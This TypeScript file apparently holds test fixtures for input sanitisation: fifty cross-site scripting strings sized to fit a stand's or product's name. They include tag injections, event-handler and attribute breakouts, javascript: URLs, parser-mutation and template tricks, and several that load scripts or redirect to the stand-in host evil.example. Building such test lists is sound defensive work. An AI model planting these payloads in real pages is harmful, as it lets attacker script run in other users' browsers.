/**
 * Fifty ways to make a page run typed text. Each calls `__xss`, opens a dialog, or loads from evil.example. None is longer than a stand's
 * or a product's name may be.
 */
export const HOSTILE_TEXTS: readonly string[] = [
  // plain elements
  '<script>__xss()</script>',
  '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
  '<scr<script>ipt>__xss()</scr</script>ipt>',
  '<script>alert(1)//',
  '</title><script>__xss()</script>',
  '</textarea><script>__xss()</script>',
  '</script><script>__xss()</script>',
  '--><script>__xss()</script>',
  ']]><script>__xss()</script>',
  '</style><script>__xss()</script>',
  // event handlers
  '<img src=x onerror=__xss()>',
  '<img src=x onerror="alert(1)">',
  '<img/src=`x`/onerror=__xss()>',
  '<IMG """><IMG SRC=x ONERROR=__xss()>',
  '<body onload=__xss()>',
  '<input autofocus onfocus=__xss()>',
  '<details open ontoggle=__xss()>',
  '<video><source onerror=__xss()>',
  '<audio src=x onerror=__xss()>',
  '<marquee onstart=__xss()>',
  '<div style="animation:spin 1s" onanimationstart=__xss()>x',
  // out of an attribute
  '"><img src=x onerror=__xss()>',
  "'><img src=x onerror=__xss()>",
  '" autofocus onfocus="__xss()',
  "' onmouseover='__xss()",
  '" style="position:fixed;inset:0" onpointerenter="__xss()',
  '`-__xss()-`',
  // addresses
  'javascript:__xss()',
  'JaVaScRiPt:__xss()//',
  'java\tscript:__xss()',
  'data:text/html,<script>parent.__xss()</script>',
  '<a href="javascript:__xss()">x</a>',
  '<iframe src="javascript:parent.__xss()">',
  '<iframe srcdoc="<script>parent.__xss()</script>">',
  '<object data="javascript:__xss()">',
  '<base href="//evil.example/">',
  '<meta http-equiv=refresh content="0;url=//evil.example/">',
  '<link rel=stylesheet href=//evil.example/x.css>',
  // other languages inside the page
  '<svg onload=__xss()>',
  '<svg><script>__xss()</script></svg>',
  '<svg><animate onbegin=__xss() attributeName=x dur=1s>',
  '<math><a xlink:href="javascript:__xss()">x',
  // what a parser mends into something else
  '<noscript><p title="</noscript><img src=x onerror=__xss()>">',
  '<svg></p><style><a id="</style><img src=1 onerror=__xss()>">',
  '<listing>&lt;img src=x onerror=__xss()&gt;</listing>',
  // templates, Markdown, entities, Unicode
  '{{constructor.constructor("__xss()")()}}',
  '${__xss()} #{__xss()} <%= __xss() %>',
  '[x](javascript:__xss()) ![x](//evil.example/x.png)',
  '&lt;img src=x onerror=__xss()&gt; &#60;script&#62;__xss()&#60;/script&#62;',
  '\u202e＜script＞__xss()＜/script＞ \u00adjavascript\u003a__xss()',
];
